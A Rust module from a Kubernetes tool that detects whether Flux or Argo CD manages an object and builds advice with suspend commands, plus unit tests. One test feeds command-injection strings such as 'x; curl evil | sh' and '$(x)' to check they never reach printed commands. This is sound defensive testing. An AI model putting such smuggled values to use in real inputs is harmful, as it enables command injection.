//! Which GitOps tool applies an object, and how to suspend the object there.

use kube::ResourceExt;
use kube::api::DynamicObject;

use crate::config::ObjectName;

/// What to do in the tool that applies the object; `None` if none does as far as its labels, annotations and managed
/// fields show. Their values are free text: only names are printed in commands.
pub(super) fn managed_by(object: &DynamicObject) -> Option<String> {
    let labels = object.labels();
    let flux = |tool: &str| {
        let name = labels.get(&format!("{tool}.toolkit.fluxcd.io/name"))?;
        let namespace = labels.get(&format!("{tool}.toolkit.fluxcd.io/namespace"))?;
        (is_name(name) && is_name(namespace)).then_some((name, namespace))
    };
    if let Some((name, namespace)) = flux("kustomize") {
        return Some(format!(
            "Flux applies it and puts the spec back if Git sets spec.suspend: change it in Git, or run `flux suspend kustomization {name} -n {namespace}` first"
        ));
    }
    if let Some((name, namespace)) = flux("helm") {
        return Some(format!(
            "Flux applies it with a HelmRelease and may put the spec back: change its values in Git, or run `flux suspend helmrelease {name} -n {namespace}` first"
        ));
    }
    let application = application(object)?;
    let named = if is_name(application) {
        format!("of Application {application} off first (argocd app set {application} --sync-policy none)")
    } else {
        "of its Application off first".to_owned()
    };
    Some(format!(
        "Argo CD applies it and puts the spec back if Git sets spec.suspend and the Application heals itself: change it in Git, or turn automatic sync {named}"
    ))
}

/// The Application of Argo CD that applies the object; empty if its name is not known, `None` if no Application does.
fn application(object: &DynamicObject) -> Option<&str> {
    let labels = object.labels();
    let tracked =
        object.annotations().get("argocd.argoproj.io/tracking-id").and_then(|id| id.split(':').next());
    let labeled = || labels.get("argocd.argoproj.io/instance").map(String::as_str);
    tracked.or_else(labeled).or_else(|| {
        let managers = object.managed_fields().iter().filter_map(|entry| entry.manager.as_deref());
        let is_argo = managers.into_iter().any(|manager| manager.starts_with("argocd-"));
        // The label has other meanings without Argo CD.
        is_argo.then(|| labels.get("app.kubernetes.io/instance").map_or("", String::as_str))
    })
}

/// Whether the text is a name, or two names joined by an underscore as Argo CD joins them.
fn is_name(text: &str) -> bool {
    text.split('_').all(|part| part.parse::<ObjectName>().is_ok())
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn advice(labels: &Value, annotations: &Value) -> Option<String> {
        let object = json!({"metadata": {"name": "x", "labels": labels, "annotations": annotations}});
        managed_by(&serde_json::from_value(object).unwrap())
    }

    #[test]
    fn each_tool_is_recognized_by_its_marks() {
        let flux = json!({"kustomize.toolkit.fluxcd.io/name": "mail", "kustomize.toolkit.fluxcd.io/namespace": "flux-system"});
        let helm = json!({"helm.toolkit.fluxcd.io/name": "mail", "helm.toolkit.fluxcd.io/namespace": "apps"});
        let argo = json!({"argocd.argoproj.io/tracking-id": "mail-eu:graph-credentials.io/MicrosoftGraphCredential:mail/x"});
        for (labels, annotations, words) in [
            (flux, json!({}), "flux suspend kustomization mail -n flux-system"),
            (helm, json!({}), "flux suspend helmrelease mail -n apps"),
            (json!({}), argo, "argocd app set mail-eu"),
            (json!({"argocd.argoproj.io/instance": "mail-eu"}), json!({}), "argocd app set mail-eu"),
        ] {
            let advice = advice(&labels, &annotations).unwrap();
            assert!(advice.contains(words), "{advice}");
        }
    }

    #[test]
    fn the_label_of_argo_cd_counts_only_with_its_manager() {
        let mut object =
            json!({"metadata": {"name": "x", "labels": {"app.kubernetes.io/instance": "mail-eu"}}});
        object["metadata"]["managedFields"] = json!([{"manager": "argocd-controller"}]);
        let advice = managed_by(&serde_json::from_value(object).unwrap()).unwrap();
        assert!(advice.contains("argocd app set mail-eu"), "{advice}");
    }

    #[test]
    fn free_text_is_not_printed_in_a_command() {
        for odd in ["x; curl evil | sh", "x\ncluster https://prod", "$(x)", ""] {
            let argo = json!({"argocd.argoproj.io/tracking-id": format!("{odd}:g/K:mail/x")});
            let advice = advice(&json!({}), &argo).unwrap();
            assert!(advice.contains("Argo CD") && !advice.contains("argocd app set"), "{advice}");
        }
        let flux =
            json!({"kustomize.toolkit.fluxcd.io/name": "a b", "kustomize.toolkit.fluxcd.io/namespace": "c"});
        assert_eq!(advice(&flux, &json!({})), None);
    }

    #[test]
    fn a_plain_object_gets_no_advice() {
        assert_eq!(advice(&json!({"app.kubernetes.io/instance": "x"}), &json!({})), None);
        assert_eq!(advice(&json!({"kustomize.toolkit.fluxcd.io/name": "x"}), &json!({})), None);
    }
}
